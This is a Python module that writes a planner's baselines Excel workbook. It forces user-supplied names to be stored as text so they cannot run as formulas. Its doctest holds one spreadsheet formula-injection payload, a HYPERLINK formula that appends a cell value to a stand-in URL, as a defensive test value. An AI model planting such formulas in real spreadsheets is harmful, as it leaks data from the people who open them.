"""``baselines.xlsx``: one sheet per baselines table, user text always as text.

Team, product, segment and grade names come from the user's files, so every cell
goes through :func:`planner.outputs.cells.put` (text via ``write_string``): a team
named ``=HYPERLINK(...)`` is shown literally, never run as a formula. Each sheet
has a bold, frozen header row (repeated on every printed page), number formats by
column and fitted widths.
"""

from __future__ import annotations

from datetime import date, datetime
from pathlib import Path
from typing import Any, Final

import pandas as pd
from xlsxwriter.worksheet import Worksheet

from planner.outputs.cells import PlannerWorkbook, is_missing, put, put_headers
from planner.outputs.labels import get_labels
from planner.outputs.layout import WORKBOOK_OPTIONS
from planner.outputs.styles import page_setup

#: Columns shown as percentages.
PERCENT_COLUMNS: Final = frozenset({"share", "conversion", "amount_share"})
HEADER_STYLE: Final = {"bold": True, "bg_color": "#DDEBF7", "bottom": 1, "text_wrap": True,
                       "valign": "top"}
NUMBER_FORMATS: Final = {"pct": "0.00%", "float": "#,##0.00", "int": "#,##0"}
DATE_FORMAT: Final = "yyyy-mm-dd"
MAX_SHEET_NAME: Final = 31
BASELINES_TITLE: Final = "Baselines"
MIN_WIDTH: Final = 6
MAX_WIDTH: Final = 60
WIDTH_ROWS: Final = 500  # rows looked at to fit a column's width


def _kind(column: str, values: pd.Series) -> str | None:
    if column in PERCENT_COLUMNS:
        return "pct"
    if pd.api.types.is_float_dtype(values):
        return "float"
    if pd.api.types.is_integer_dtype(values):
        return "int"
    return None


def _width(column: str, values: pd.Series) -> float:
    text = [f"{v:,.2f}" if isinstance(v, float) else str(v)
            for v in values.head(WIDTH_ROWS).tolist()]
    return float(min(max([len(str(column)), *map(len, text), MIN_WIDTH]) + 2, MAX_WIDTH))


def _cell(sheet: Worksheet, row: int, col: int, value: object, fmt: Any, date_fmt: Any) -> None:
    """A date as an Excel date; anything else through :func:`put` (text stays text)."""
    if isinstance(value, (pd.Timestamp, datetime, date)) and not is_missing(value):
        stamp = pd.Timestamp(value)
        sheet.write_datetime(row, col, stamp.tz_localize(None).to_pydatetime(), date_fmt)
    else:
        put(sheet, row, col, value, fmt)


def write_baselines_workbook(tables: dict[str, pd.DataFrame], path: Path) -> Path:
    """Write one sheet per table into ``path``.

    Parameters
    ----------
    tables : dict of str to DataFrame
        Sheet name (cut to 31 characters) to table, in sheet order.
    path : Path
        The ``.xlsx`` file to write.

    Returns
    -------
    Path
        ``path``.

    Examples
    --------
    >>> import tempfile
    >>> import openpyxl
    >>> path = Path(tempfile.mkdtemp()) / "b.xlsx"
    >>> teams = pd.DataFrame({"team": ['=HYPERLINK("http://x/?"&A1,"click")'], "seats": [3]})
    >>> book = openpyxl.load_workbook(write_baselines_workbook({"teams": teams}, path))
    >>> cell = book["teams"]["A2"]
    >>> cell.data_type, cell.value[:10]
    ('s', '=HYPERLINK')
    """
    wb = PlannerWorkbook(str(path), WORKBOOK_OPTIONS)
    head = wb.add_format(HEADER_STYLE)
    formats = {kind: wb.add_format({"num_format": code}) for kind, code in NUMBER_FORMATS.items()}
    date_fmt = wb.add_format({"num_format": DATE_FORMAT})
    for name, frame in tables.items():
        sheet = wb.add_worksheet(name[:MAX_SHEET_NAME])
        page_setup(sheet, left=BASELINES_TITLE, center=name, footer=get_labels("en")["page"],
                   header_row=0, freeze=(1, 0))
        put_headers(sheet, 0, 0, [str(c) for c in frame.columns], head)
        for j, column in enumerate(frame.columns):
            values = frame.iloc[:, j]
            fmt = formats.get(_kind(str(column), values) or "")
            for i, value in enumerate(values.tolist(), start=1):
                _cell(sheet, i, j, value, fmt, date_fmt)
            sheet.set_column(j, j, _width(str(column), values), fmt)
    wb.close()
    return Path(path)
